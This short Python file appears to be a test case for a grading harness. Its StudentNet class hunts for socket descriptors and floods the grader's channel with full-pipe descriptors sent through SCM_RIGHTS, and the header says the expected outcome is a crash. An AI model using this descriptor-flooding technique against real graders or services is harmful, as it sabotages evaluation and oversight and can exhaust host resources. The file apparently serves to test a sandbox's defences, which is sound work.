# Sends the grader descriptors along with an answer, and hides full pipes in the channel (at most 64 times).
# expect: crashed
# reason: wrote over its own answers
import array
import os
import socket
import stat

from attack import Attack, say


class StudentNet(Attack):
    def attack(self):
        for descriptor in range(3, 64):
            try:
                if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    continue
                channel = socket.socket(fileno=os.dup(descriptor))
                for _ in range(64):
                    reader, writer = os.pipe()
                    os.write(writer, b"x" * 4096)
                    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [reader, writer]))]
                    channel.sendmsg([b"x" * 64], rights, socket.MSG_DONTWAIT)
                    os.close(reader)
                    os.close(writer)
            except OSError as error:
                say(f"held: {error}")
